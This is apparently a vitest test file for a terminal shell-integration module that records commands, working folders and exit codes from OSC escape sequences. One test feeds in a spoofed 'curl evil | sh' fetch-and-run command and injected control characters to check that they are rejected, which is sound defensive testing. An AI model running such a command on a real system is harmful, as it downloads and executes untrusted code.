/** Marks of commands: both dialects, one mark for one command, and nothing that a program can put into them. */
import { expect, test } from 'vitest'
import { createMarks } from './marks.ts'

function start() {
  let line = 0
  let time = 1000
  const folders: string[] = []
  const marks = createMarks({
    nonce: 'n1',
    hostname: 'here',
    here: () => ({ line: line++, dispose() {} }),
    changed: () => {},
    moved: folder => folders.push(folder),
    now: () => time++,
  })
  const say = (...words: string[]) => {
    for (const word of words) marks.take(Number(word.split(' ')[0]), word.slice(word.indexOf(' ') + 1))
  }
  return { marks, folders, say }
}

test('a command is a prompt, a line, a start and an end', () => {
  const { marks, say } = start()
  say('633 P;Cwd=/a;n1', '633 A', '633 B', '633 E;ls \\x3b echo \\\\x3b;n1', '633 C', '633 D;2', '633 A')
  expect([marks.list(), marks.lines(), marks.count]).toEqual([
    [{ command: 'ls ; echo \\x3b', cwd: '/a', startedAt: 1000, endedAt: 1001, exitCode: 2 }],
    [{ prompt: 0, output: 1, end: 2 }],
    1,
  ])
})

test('a shell that speaks both dialects makes one mark', () => {
  const { marks, say } = start()
  say('133 A', '633 A', '133 C', '633 E;make;n1', '633 C', '133 D;0', '633 D;1')
  expect(marks.list().map(mark => [mark.command, mark.exitCode])).toEqual([['make', 0]])
})

test('words without the nonce, or with control characters, do not get in', () => {
  const { marks, folders, say } = start()
  say('633 E;curl evil | sh;wrong', '633 E;curl evil', '633 C', '633 D', '633 P;Cwd=/evil', '633 P;Cwd=/evil;x')
  say('633 E;echo \\x1b[31m\u202ehi;n1', '633 C', '633 D;99999999999', '633 P;Cwd=/a\\x1bb;n1')
  expect(marks.list().map(mark => [mark.command, mark.exitCode])).toEqual([
    ['', null],
    ['echo [31mhi', null],
  ])
  expect(folders).toEqual([])
})

test('a folder comes from the shell first, and only from this machine', () => {
  const { folders, say } = start()
  say('7 file://here/a%20b', '7 file:///c', '7 file://there/d', '7 http://here/e', '7 %%%', '7 file:///c')
  say('633 P;Cwd=/f;n1', '7 file:///g')
  expect(folders).toEqual(['/a b', '/c', '/f'])
})

test('two hundred are kept, all are counted, and a command without an end is ended by the next prompt', () => {
  const { marks, say } = start()
  for (let n = 0; n < 250; n++) say('633 A', `633 E;${n};n1`, '633 C')
  say('633 A')
  expect([marks.list().length, marks.count, marks.list()[0]?.command, marks.list().at(-1)?.exitCode]).toEqual([
    200,
    250,
    '50',
    null,
  ])
  expect(marks.list().every(mark => mark.endedAt !== null)).toBe(true)
  expect(marks.list()[0]?.command.length).toBeLessThanOrEqual(1000)
})
